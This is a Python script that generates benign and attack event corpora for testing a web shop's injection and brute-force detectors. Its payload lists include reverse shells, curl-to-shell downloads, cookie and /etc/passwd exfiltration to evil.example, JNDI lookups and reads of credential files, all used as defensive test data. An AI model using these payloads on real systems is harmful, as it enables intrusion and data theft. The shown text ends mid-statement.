#!/usr/bin/env python3
"""Generates the security detectors' test corpora (deterministic: run it again, same bytes).

- benign.jsonl: a day of a web shop and its API: searches and reviews full of apostrophes,
  SQL words, `<` and `..`; users who mistype a password once or twice and then log in; an
  office address where many people log in; API clients that now and then hit the rate limit.
  No detector should fire on it.
- attacks.jsonl: injection payloads of the four families (from the OWASP cheat sheets and
  PayloadsAllTheThings, as sent, percent-encoded and double-encoded), SQL injection attempts
  the application reported, brute-force runs, credential stuffing and a rate-limit burst.

Each line is a `pharos.ingest.v1.SecurityEvent` as JSON (attributes as an object, times in
nanoseconds). Attack lines add `group` (one incident), `expect` (the detector that must fire
on this event, or null) and, for injections, `kind` (the family).

Usage: python3 generate.py  (writes both files next to this script)
"""

import json
import os
import random
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
SECOND = 1_000_000_000
# 2026-01-05T00:00:00Z, a Monday.
DAY = 1_767_571_200 * SECOND

INFO, LOW, MEDIUM, HIGH = 1, 2, 3, 4

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]
API_AGENTS = [
    "python-requests/2.32.3",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
    "curl/8.5.0",
    "shop-mobile/5.2.1 (iOS 18.1; iPhone15,3)",
    "PostmanRuntime/7.42.0",
]

# Searches people type: apostrophes, SQL words in plain text, `<`, `&`, `;`, `..`, symbols.
SEARCHES = [
    "O'Reilly", "O'Reilly rust book", "rock 'n' roll", "rock 'n' roll vinyl box set",
    "select a plan", "how to select a plan from the menu", "drop shipping",
    "drop shipping supplier", "union station", "union station clock", "union jack flag",
    "<3 this product", "a < b", "x > y poster", "tom & jerry dvd", "c++ primer", "c# in depth",
    "f# for fun and profit", "50% off", "100% cotton t-shirt", "l'oreal shampoo",
    "children's books", "don't starve", "it's a wonderful life", "rock & roll hall of fame",
    "salt + pepper grinder", "dog food; cat food", "cat toys", "sleep mask",
    "deep sleep (2 pack)", "script writing for beginners", "javascript: the good parts",
    "javascript book", "select from our range of teas", "drop-leaf table", "coffee table",
    "delete from cart help", "update my address", "insert coin arcade", "alert bell for bike",
    "prompt book", "where's my order", "macy's gift card", "levi's 501", "women's running shoes",
    "kids' shoes", "5' 11\" mannequin", "2x4 lumber", "3/4\" plywood", "usb-c -> hdmi adapter",
    "=> arrow poster", "M&M's", "AT&T phone case", "R&D notebook", "Q&A book", "B&O speakers",
    "ben & jerry's", "dolce & gabbana", "h&m", "toys 'r' us", "'80s music",
    "the 'best' mattress -- really", "who's afraid of virginia woolf", "rock 'n' roll or jazz",
    "on/off switch", "oneplus 12", "online gift card", "onion chopper", "$100 gift card",
    "$5 & under", "#1 best seller", "#hashtag tee", "--force t-shirt", "node.js design patterns",
    "python crash course", "pearl necklace", "ruby ring", "ruby red grapefruit",
    "bash & blow-dry kit", "catnip; cat scratcher", "sql for dummies",
    "learning sql select statements", "file organizer", "window cleaner", "windows 11 pro",
    "cookie jar", "document camera", "print cartridge (black)", "i <3 ny mug", "<- left arrow",
    "a<b<c", "caf\u00e9 cr\u00e8me", "na\u00efve art", "\u65e5\u672c\u8a9e\u306e\u672c",
    "Gr\u00fc\u00dfe aus Berlin", "emoji \U0001F600 stickers", "1=1 tutoring", "2 or 3 seater sofa",
    "and/or gate kit", "either/or", "or else t-shirt", "exec chair", "executive desk",
    "shell necklace", "sh*t happens mug", "id card holder", "cat 5e cable", "cat6 cable 10m",
    "echo dot", "ping pong table", "sleep number bed", "type c charger", "dir en grey cd",
    "env variables book", "curl cream", "wget?", "net user guide", "set of 6 mugs",
    "tables & chairs", "table; chairs; lamps", "shoes | sneakers", "black || white",
    "red && blue", "jeans (slim)", "iphone 16 pro max", "size 10.5", "2024..2025 planner",
    "v1..v2", "...and more", "wait... what?", "o'neill surf", "d'artagnan", "rock'n'roll",
    "y'all mug", "ma'am tee", "ne'er-do-well", "'quoted' title", "\"exact phrase\"",
    "she said \"hi\"", "5'9\" jeans", "select comfort", "union made boots",
    "drop earrings", "drop table legs", "information desk", "schema therapy book",
    "script font", "scripture cookbook", "on sale", "onerror?", "load balancer",
    "document.write book", "eval kit", "alert(ness) tea", "system 32 bit", "ethernet & wifi",
    "etc.", "passwd reset help", "path of exile", "../ sticker", "tilde ~ key",
    "backtick ` key", "dollar $ sign", "pipe | symbol", "ampersand & co", "semicolon ; tattoo",
]

REVIEWS = [
    "<3 this product, works great",
    "Would buy again -- 5 stars",
    "Fits a < b sized rooms, if you know what I mean",
    "My kid's favourite; she sleeps with it every night",
    "Don't buy the 'deluxe' version -- the basic one is better",
    "Best 'value' for money",
    "Arrived in 2 days & works as described",
    "10/10 would recommend; cat loves it",
    "Used it with my rock 'n' roll records, sounds great",
    "Select the blue one, the red fades after a wash",
    "Dropped it once, still works",
    "The union of style and comfort",
    "It's ok... not great, not terrible",
    "Size runs small -> order one up",
    "Tip: select 'large' from the size menu",
    "Paired it with <b>bold</b> colors",
    "Ratings: 5/5 = perfect",
    "Price was $(shipping incl.) fair",
    "Great mattress; sleep 8 hours now",
    "Works on Windows & Mac. On Linux too",
    "I'd give it 6 stars if I could!!!",
    "Quality > price, no doubt",
    "Smaller than expected (about 10 x 20 cm)",
    "Ordered 2, got 3 -- lucky me",
    "Not for O'Reilly-level readers, more of an intro",
    "Replace the ../ style paths in the manual, they confuse people",
    "Delete from your wishlist and buy it now!",
    "Drop table talk: this is THE board game for parties",
    "I love javascript: this book explains closures well",
    "Onload times on the app are slow but the product is fine",
    "Good for cat and dog owners; the hair comes right off",
    "Echo dot pairs fine | setup took 2 minutes",
    "Instructions say: 1) open box 2) enjoy",
    "Email me at jane.o'connor@example.com if you have questions",
    "Used the code SAVE10 & FREESHIP together",
    "\"Exactly as pictured\"",
    "Five stars <3 <3 <3",
    "My husband's new favourite shirt :)",
    "Heavier than it looks ~2kg",
    "Colour: 'midnight blue' is more like black",
]

CATEGORIES = ["books", "music", "home-garden", "toys", "clothing", "electronics", "furniture"]
FIRST_NAMES = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
    "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yara",
]


def event(t, event_type, user, ip, severity, resource, service, attributes):
    return {
        "time_unix_nano": t,
        "event_type": event_type,
        "user_id": user,
        "source_ip": ip,
        "severity": severity,
        "resource": resource,
        "service_name": service,
        "attributes": attributes,
    }


def quote(text):
    return urllib.parse.quote_plus(text, safe="")


def encode_all(text):
    return "".join(f"%{byte:02X}" for byte in text.encode())


def benign(rng):
    events = []
    users = [f"{name}{n}" for name in FIRST_NAMES for n in range(1, 16)]
    users += ["o'connor", "jean-luc.picard", "anna+shop@example.com", "d'angelo", "select_admin"]
    homes = {}
    for index, user in enumerate(users):
        homes[user] = f"198.51.100.{index % 250 + 1}" if index % 2 else f"192.0.2.{index % 250 + 1}"
    office = "203.0.113.10"
    span = 8 * 3600

    def at(second):
        return DAY + 6 * 3600 * SECOND + int(second * SECOND)

    # Browsing and API requests.
    for _ in range(1750):
        t = at(rng.uniform(0, span))
        ip = homes[rng.choice(users)] if rng.random() < 0.8 else office
        roll = rng.random()
        attributes = {"method": "GET", "status": "200"}
        if roll < 0.35:
            term = rng.choice(SEARCHES)
            query = f"q={quote(term)}&page={rng.randint(1, 5)}"
            resource = f"/search?{query}"
            attributes.update(query=query, user_agent=rng.choice(USER_AGENTS))
            service = "shop-web"
        elif roll < 0.5:
            resource = rng.choice([
                f"/products/{rng.randint(1, 9999)}",
                f"/category/{rng.choice(CATEGORIES)}?sort=price_asc&min=10&max=50",
                "/cart", "/checkout", "/account/orders?tab=returns",
                f"/static/css/app.{rng.randrange(16**8):08x}.css",
                "/static/css/../img/logo.png",
                "/login?next=%2Faccount%2Forders%3Ftab%3Dreturns",
                "/redirect?url=https%3A%2F%2Fpartner.example.com%2Fdeal%3Fid%3D5%26ref%3Dshop",
                f"/blog/2025/12/{rng.randint(1, 28)}/what's-new-in-winter",
                "/help/faq#returns-&-refunds",
            ])
            path, _, query = resource.partition("?")
            attributes.update(path=path, user_agent=rng.choice(USER_AGENTS))
            if query:
                attributes["query"] = query
            service = "shop-web"
        elif roll < 0.75:
            resource = rng.choice([
                f"/api/v2/orders?status=shipped&sort=-created_at&page={rng.randint(1, 9)}&per_page=50",
                "/api/v2/products?filter=price>10&fields=id,name,price",
                f"/api/v2/users/{rng.randint(1, 99999)}/sessions",
                "/api/v2/reports?from=2026-01-01&to=2026-01-31&group_by=day",
                "/api/v2/export?format=csv&include=orders,items",
                "/api/v2/items?select=id,name&order=created_at.desc",
                "/api/v1/repos/shop/compare/v1..v2",
                "/api/v1/diff/2025-12-01..2026-01-01",
                "/api/v2/search?q=select+plan+from+list",
                f"/api/v2/products/{rng.randint(1, 9999)}/reviews?sort=rating&order=desc",
                "/api/v2/tickets?filter=status%20eq%20'open'%20or%20priority%20eq%20'high'",
                "/api/v2/files?path=/invoices/2025/12&download=true",
                "/api/v2/geo?bbox=-0.5,51.2,0.3,51.7&zoom=12",
            ])
            path, _, query = resource.partition("?")
            attributes.update(path=path, user_agent=rng.choice(API_AGENTS))
            if query:
                attributes["query"] = query
            service = "shop-api"
        elif roll < 0.9:
            review = rng.choice(REVIEWS)
            resource = f"/api/v2/products/{rng.randint(1, 9999)}/reviews"
            body = {"rating": rng.randint(1, 5), "title": review[:24], "text": review}
            attributes.update(method="POST", status="201", user_agent=rng.choice(USER_AGENTS),
                              body=json.dumps(body, ensure_ascii=False))
            service = "shop-api"
        else:
            resource = "/api/v2/checkout"
            body = {
                "email": rng.choice(["jane.o'connor@example.com", "tom+orders@example.com",
                                     "d'angelo@example.org", "li.wei@example.cn"]),
                "address": {"line1": rng.choice(["12 O'Connell St", "5 Rue de l'\u00c9glise",
                                                 "221B Baker St", "1 Union Sq"]),
                            "city": rng.choice(["Dublin", "Paris", "London", "San Francisco"])},
                "items": [{"sku": f"SKU-{rng.randint(100, 999)}", "qty": rng.randint(1, 3)}],
                "coupon": rng.choice(["", "SAVE10", "FREESHIP"]),
                "note": rng.choice(["", "Leave at the door; ring twice", "Gift -- no price tag",
                                    "Call me @ 555-0100 & leave it w/ neighbor"]),
            }
            attributes.update(method="POST", user_agent=rng.choice(USER_AGENTS),
                              body=json.dumps(body, ensure_ascii=False))
            service = "shop-api"
        events.append(event(t, "request", "", ip, INFO, resource, service, attributes))

    # Logins: most succeed at once; some mistype 1 to 3 times first.
    def login(start, user, ip, failures):
        t = start
        agent = rng.choice(USER_AGENTS)
        for _ in range(failures):
            events.append(event(at(t), "auth_failure", user, ip, LOW, "/api/login", "auth",
                                {"reason": "bad_password", "user_agent": agent,
                                 "body": json.dumps({"username": user, "remember": True})}))
            t += rng.uniform(4, 20)
        events.append(event(at(t), "auth_success", user, ip, INFO, "/api/login", "auth",
                            {"method": "password", "user_agent": agent}))

    for _ in range(420):
        user = rng.choice(users)
        ip = office if rng.random() < 0.3 else homes[user]
        failures = rng.choice([1, 1, 1, 2, 2, 3]) if rng.random() < 0.22 else 0
        login(rng.uniform(0, span - 120), user, ip, failures)
    # The morning rush at the office: 60 people log in within 5 minutes, two mistype once.
    for index, user in enumerate(users[:60]):
        login(3 * 3600 + index * 5 + rng.uniform(0, 3), user, office, 1 if index in (17, 41) else 0)

    # Other security events the detectors only scan for injections.
    for _ in range(120):
        user = rng.choice(users)
        kind, resource, attributes = rng.choice([
            ("password_change", "/api/account/password", {"user_agent": rng.choice(USER_AGENTS)}),
            ("mfa_challenge", "/api/login/mfa", {"factor": "totp"}),
            ("session_expired", "/account/orders", {"path": "/account/orders", "idle": "30m"}),
            ("permission_denied", "/api/v2/admin/users", {"path": "/api/v2/admin/users",
                                                          "role": "customer"}),
            ("token_issued", "/oauth/token", {"body": "grant_type=refresh_token&client_id=shop-mobile",
                                              "user_agent": rng.choice(API_AGENTS)}),
        ])
        events.append(event(at(rng.uniform(0, span)), kind, user, homes[user], LOW, resource,
                            "auth", attributes))

    # API clients that now and then go over the limit: single violations and short bursts.
    clients = [f"198.18.0.{n}" for n in range(1, 13)]
    for _ in range(40):
        ip = rng.choice(clients)
        start = rng.uniform(0, span - 60)
        for burst in range(rng.choice([1, 1, 1, 2, 3, 5])):
            events.append(event(at(start + burst * rng.uniform(0.2, 2)), "rate_limit_violation",
                                "", ip, MEDIUM, "/api/v2/search", "shop-api",
                                {"limit": "100/min", "user_agent": rng.choice(API_AGENTS),
                                 "query": "q=" + quote(rng.choice(SEARCHES))}))

    events.sort(key=lambda e: e["time_unix_nano"])
    check_benign(events)
    return events


def check_benign(events):
    """Fails if the corpus itself holds an incident by the default thresholds."""
    def peak(times_by_key, window):
        worst = 0
        for times in times_by_key.values():
            times.sort()
            start = 0
            for end, time in enumerate(times):
                while times[start] < time - window:
                    start += 1
                worst = max(worst, end - start + 1)
        return worst

    by_ip, users_by_ip, rate, run = {}, {}, {}, {}
    for e in events:
        t, ip, user = e["time_unix_nano"], e["source_ip"], e["user_id"]
        if e["event_type"] == "auth_failure":
            by_ip.setdefault(ip, []).append(t)
            users_by_ip.setdefault(ip, []).append((t, user))
            run[user] = run.get(user, 0) + 1
            assert run[user] < 5, f"{user} fails 5 times before logging in"
        elif e["event_type"] == "auth_success":
            run[user] = 0
        elif e["event_type"] == "rate_limit_violation":
            rate.setdefault(ip, []).append(t)
    assert peak(by_ip, 60 * SECOND) < 10, "an address fails 10 times within 60s"
    assert peak(rate, 10 * SECOND) < 20, "an address goes over the limit 20 times in 10s"
    for ip, tries in users_by_ip.items():
        for index, (t, _) in enumerate(tries):
            distinct = {user for (u_t, user) in tries[: index + 1] if u_t >= t - 60 * SECOND}
            assert len(distinct) < 5, f"{ip} fails for 5 distinct users within 60s"


SQLI = [
    "' OR '1'='1", "' OR '1'='1' --", "' OR '1'='1' /*", "' OR 1=1--", "' OR 1=1#",
    "\" OR \"1\"=\"1", "\" OR 1=1--", "') OR ('1'='1", "')) OR (('1'='1", "admin' --",
    "admin' #", "admin'/*", "admin' or '1'='1", "admin') or ('1'='1'--", "' or 'x'='x",
    "' or true--", "\" or true--", "1' or 1=1 limit 1 --", "1 OR 1=1", "1) OR (1=1",
    "-1 OR 2>1", "' UNION SELECT NULL--", "' UNION SELECT NULL,NULL--",
    "' UNION ALL SELECT username, password FROM users--", "1 UNION SELECT 1,2,3",
    "-1' UNION SELECT table_name,2 FROM information_schema.tables--",
    "' UNION/**/SELECT/**/password/**/FROM/**/users--", "1' ORDER BY 1--", "1' ORDER BY 3--+",
    "' AND 1=1--", "' AND 1=2--", "1' AND SLEEP(5)--", "1 AND SLEEP(5)",
    "'; WAITFOR DELAY '0:0:5'--", "1; SELECT pg_sleep(5)--", "' OR SLEEP(5)#",
    "1 AND BENCHMARK(5000000,MD5(1))", "'; DROP TABLE users; --", "1; DROP TABLE users",
    "'; DELETE FROM users WHERE '1'='1",
    "'; INSERT INTO users (username,password) VALUES ('hacker','x')--",
    "'; UPDATE users SET password='x' WHERE username='admin'--", "'; EXEC xp_cmdshell('dir')--",
    "'; exec master..xp_cmdshell 'ping 10.10.1.2'--", "' AND 1=CONVERT(int,@@version)--",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "' AND updatexml(1,concat(0x7e,(SELECT user())),1)--",
    "' UNION SELECT load_file('/etc/passwd')--", "' INTO OUTFILE '/var/www/shell.php'--",
    "1' AND (SELECT COUNT(*) FROM information_schema.columns) > 0 --",
    "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", "' HAVING 1=1--",
    "' GROUP BY columnnames HAVING 1=1--", "1' AND '1'='1", "1' AND 'a'='a", "' or 1 like 1--",
    "%' AND 1=1 AND '%'='", "' OR 'something' LIKE 'some%'",
    "' or username is not null or username = '", "1;SELECT * FROM sqlite_master",
    "' UNION SELECT sql FROM sqlite_master--", "'||(SELECT version())||'", "' || pg_sleep(5)--",
    "1' AND 1=(SELECT 1 FROM pg_catalog.pg_tables LIMIT 1)--", "'; SHUTDOWN--",
    "' OR EXISTS(SELECT * FROM users)--", "admin'or 1=1 or ''='", "' or ''='", "'or''='",
    "1' waitfor delay '0:0:10'--",
    ";declare @q varchar(99);set @q='\\\\attacker\\x'; exec master.dbo.xp_dirtree @q;--",
    "' + CHAR(83)+CHAR(69)+CHAR(76)+CHAR(69)+CHAR(67)+CHAR(84) + '",
    "' UNION SELECT @@version,NULL--",
    "1 union select 1,group_concat(table_name),3 from information_schema.tables",
    "0x50 or 1=1", "1' AnD 1=1 -- -", "'/**/OR/**/1/**/=/**/1", "1'%20or%20'1'%3D'1",
]

XSS = [
    "<script>alert(1)</script>", "<script>alert(document.cookie)</script>",
    "<ScRiPt>alert('XSS')</sCrIpT>", "<script src=https://evil.example/x.js></script>",
    "\"><script>alert(1)</script>", "'><script>alert(String.fromCharCode(88,83,83))</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(document.domain)\">",
    "<IMG SRC=javascript:alert('XSS')>", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<svg/onload=alert(1)>", "<svg onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<body onload=alert('XSS')>", "<iframe src=\"javascript:alert(1)\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\">", "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=javascript&colon;alert(1)>x</a>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<div style=\"background-image: url(javascript:alert(1))\">",
    "<div style=\"width: expression(alert(1))\">", "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>", "javascript:alert(document.cookie)",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<x onmouseover=alert(1)>hover",
    "<p onclick=\"alert(1)\">click</p>", "<style>@import 'javascript:alert(1)';</style>",
    "\"onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(document.domain) x=\"",
    "<img src=x onerror=this.src='http://evil.example/?c='+document.cookie>",
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "<script>document.location='http://evil.example/?'+document.cookie</script>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a>",
    "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "<%= 7*7 %>",
    "<body background=\"javascript:alert(1)\">", "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<img \"\"\"><script>alert(\"XSS\")</script>\">", "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>", "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<svg/onload=location='javascript:alert(1)'>", "<iframe src=//evil.example/xss.html>",
    "<object data=//evil.example/x.swf>",
]

TRAVERSAL = [
    "../../../etc/passwd", "../../../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\..\\boot.ini", "....//....//....//etc/passwd", "..././..././etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252fetc%252fpasswd",
    "..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252f..%252fetc%252fpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%c0%af..%c0%afetc%c0%afpasswd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..;/..;/..;/etc/passwd",
    "/var/www/html/../../../etc/shadow", "../../../../proc/self/environ", "/proc/self/cmdline",
    "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "php://input",
    "expect://id", "zip://shell.jpg%23payload.php", "phar://./uploads/avatar.jpg/shell.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "C:\\Windows\\System32\\config\\SAM", "C:/inetpub/wwwroot/web.config",
    "../../../../../../../../windows/win.ini", "\\..\\..\\..\\..\\winnt\\win.ini",
    "/../../../../WEB-INF/web.xml", "../WEB-INF/web.xml", "../../.env", "../../../.git/config",
    "../../../../root/.ssh/id_rsa", "../../../../home/user/.bash_history",
    "../../../var/log/apache2/access.log", "/etc/passwd%00.jpg", "../../../etc/passwd%00",
    "....\\/....\\/etc/passwd", "..%5c..%5c..%5cwindows%5cwin.ini", "%2e%2e%5c%2e%2e%5cboot.ini",
    "..%u2216..%u2216windows%u2216win.ini", "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
    "..%2f..%2f..%2fetc/passwd", "..././..././..././etc/hosts",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd", ".%%32%65/.%%32%65/.%%32%65/etc/passwd", "../.htpasswd",
    "/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/group", "../../../../../etc/issue",
]

COMMANDS = [
    "; cat /etc/passwd", "; ls -la", "| id", "|| whoami", "&& whoami", "& whoami", "; uname -a",
    "`id`", "`whoami`", "$(whoami)", "$(cat /etc/passwd)",
    "; wget http://evil.example/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
    "&& curl http://evil.example/s.sh | sh", "| nc 10.0.0.1 4444 -e /bin/sh",
    "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "; nc -lvp 4444 -e /bin/bash", "; rm -rf /tmp/*",
    "127.0.0.1; cat /etc/shadow", "127.0.0.1 && ping -c 10 127.0.0.1", "127.0.0.1 | sleep 10",
    "8.8.8.8; sleep 5", "127.0.0.1\nid", "; echo 'pwned' > /var/www/html/p.php",
    "; python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",1234))'",
    "; perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;'",
    "; php -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'", "() { :;}; echo; /usr/bin/id",
    "${jndi:ldap://evil.example:1389/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
    "${jndi:dns://evil.example/x}", ";${IFS}cat${IFS}/etc/passwd", "cat$IFS/etc/passwd",
    "{cat,/etc/passwd}", "; /bin/sh -c id", "| /bin/bash", "& ping -n 10 127.0.0.1 &",
    "| timeout /t 10", "& dir c:\\", "& type C:\\Windows\\win.ini", "| net user hacker P@ss /add",
    "; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')\"",
    "& cmd /c whoami", "| certutil -urlcache -split -f http://evil.example/x.exe x.exe",
    ";curl${IFS}http://evil.example/x|sh", "$(curl -s http://evil.example/x.sh | bash)",
    "`wget -qO- http://evil.example/x | sh`",
    "; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
    "; socat tcp:10.0.0.1:4444 exec:sh", "a; exec 5<>/dev/tcp/10.0.0.1/4444",
    "; nslookup $(whoami).evil.example", "| busybox nc 10.0.0.1 4444 -e sh",
    "; chmod +x /tmp/x; /tmp/x", ";id;", "||ping -c 5 127.0.0.1||",
    "; tail -n 20 /var/log/auth.log", "; find / -perm -4000 -type f",
    "| head -c 100 /dev/urandom", "; curl -d @/etc/passwd http://evil.example/",
]

REPORTED = [
    ("SELECT * FROM products WHERE id = '5' OR 1=1 --'", "id"),
    ("SELECT name FROM users WHERE email = 'x' UNION SELECT password FROM users", "email"),
    ("5 AND 1=2", "id"),
    ("1' AND SLEEP(5)", "id"),
    ("admin'--", "username"),
    ("1;DROP TABLE orders", "order_id"),
    ("abc'", "q"),
    ("1' AND '1'='1", "category"),
    ("'; select 1 --", "sort"),
    ("-1", "page"),
    ("x' OR name LIKE '%", "name"),
    ("1 OR 1=1", "id"),
]


def attacks(rng):
    events = []
    t = DAY + 20 * 3600 * SECOND
    attacker = 0

    def next_ip():
        nonlocal attacker
        attacker += 1
        return f"45.{attacker // 250 + 80}.{attacker % 250}.{attacker % 7 + 10}"

    def injection(kind, index, payload, variant):
        nonlocal t
        t += int(rng.uniform(0.5, 3) * SECOND)
        ip = next_ip()
        agent = rng.choice(USER_AGENTS)
        attributes = {"method": "GET", "user_agent": agent}
        if variant == "encoded":
            query = "q=" + encode_all(payload)
            resource, service = f"/search?{query}", "shop-web"
            attributes["query"] = query
        elif kind == "path_traversal" and index % 3 == 0:
            resource, service = "/static/" + payload.replace("\n", "%0A"), "shop-web"
            attributes["path"] = resource
        elif kind == "path_traversal":
            param = ["file", "page", "template", "path"][index % 4]
            query = f"{param}={quote(payload)}"
            resource, service = f"/download?{query}", "shop-web"
            attributes["query"] = query
        elif kind == "command_injection" and index % 4 == 1:
            attributes["user_agent"] = payload
            resource, service = "/cgi-bin/status", "shop-web"
        elif kind == "command_injection":
            query = "host=" + quote(payload)
            resource, service = f"/tools/ping?{query}", "shop-api"
            attributes["query"] = query
        elif index % 3 == 1:
            resource, service = f"/api/v2/products/{index}/reviews", "shop-api"
            attributes["method"] = "POST"
            if '"' in payload or "\\" in payload:
                attributes["body"] = "text=" + quote(payload) + "&rating=5"
            else:
                attributes["body"] = json.dumps({"rating": 5, "text": payload})
        else:
            param = "id" if kind == "sqli" else "q"
            query = f"{param}={quote(payload)}"
            resource, service = f"/products?{query}", "shop-web"
            attributes["query"] = query
        line = event(t, "request", "", ip, INFO, resource, service, attributes)
        line.update(group=f"{kind}-{index}-{variant}", expect="injection", kind=kind)
        events.append(line)

    for kind, payloads in (("sqli", SQLI), ("xss", XSS), ("path_traversal", TRAVERSAL),
                           ("command_injection", COMMANDS)):
        for index, payload in enumerate(payloads):
            injection(kind, index, payload, "plain")
            if index % 2 == 0:
                injection(kind, index, payload, "encoded")

    for index, (statement, parameter) in enumerate(REPORTED):
        t += 2 * SECOND
        line = event(t, "sql_injection_attempt", "", next_ip(), HIGH if index % 3 else MEDIUM,
                     "/api/v2/products", "shop-api",
                     {"statement": statement, "parameter": parameter, "rule": "orm-guard"})
        line.update(group=f"reported-{index}", expect="injection", kind="sqli")
        events.append(line)

    # One user, 30 failures in 20 s from 30 addresses of a botnet.
    t += 300 * SECOND
    for index in range(30):
        line = event(t + int(index * 20 / 30 * SECOND), "auth_failure", "admin",
                     f"77.91.{index}.{index + 3}", LOW, "/api/login", "auth",
                     {"reason": "bad_password", "user_agent": "python-requests/2.32.3"})
        line.update(group="brute-force-user", expect="brute_force_user" if index == 4 else None)
        events.append(line)

    # One address, 50 failures over 10 users in 45 s, round robin.
    t += 300 * SECOND
    for index in range(50):
        user = f"staff{index % 10:02d}"
        expect = None
        if index == 4:
            expect = "credential_stuffing"
        elif index == 9:
            expect = "brute_force_ip"
        elif index >= 40:
            expect = "brute_force_user"
        line = event(t + int(index * 0.9 * SECOND), "auth_failure", user, "185.220.101.7", LOW,
                     "/api/login", "auth", {"reason": "bad_password", "user_agent": "Hydra"})
        line.update(group="brute-force-ip", expect=expect)
        events.append(line)

    # Credential stuffing: one address, 40 distinct users once each in 30 s.
    t += 300 * SECOND
    for index in range(40):
        expect = {4: "credential_stuffing", 9: "brute_force_ip"}.get(index)
        line = event(t + int(index * 0.75 * SECOND), "auth_failure",
                     f"customer{rng.randint(10000, 99999)}.{index}@example.com", "193.32.162.9", LOW,
                     "/api/login", "auth",
                     {"reason": "bad_password", "user_agent": rng.choice(USER_AGENTS)})
        line.update(group="credential-stuffing", expect=expect)
        events.append(line)

    # A rate-limit burst: 100 violations in 5 s.
    t += 300 * SECOND
    for index in range(100):
        line = event(t + index * 50_000_000, "rate_limit_violation", "", "203.0.113.99", MEDIUM,
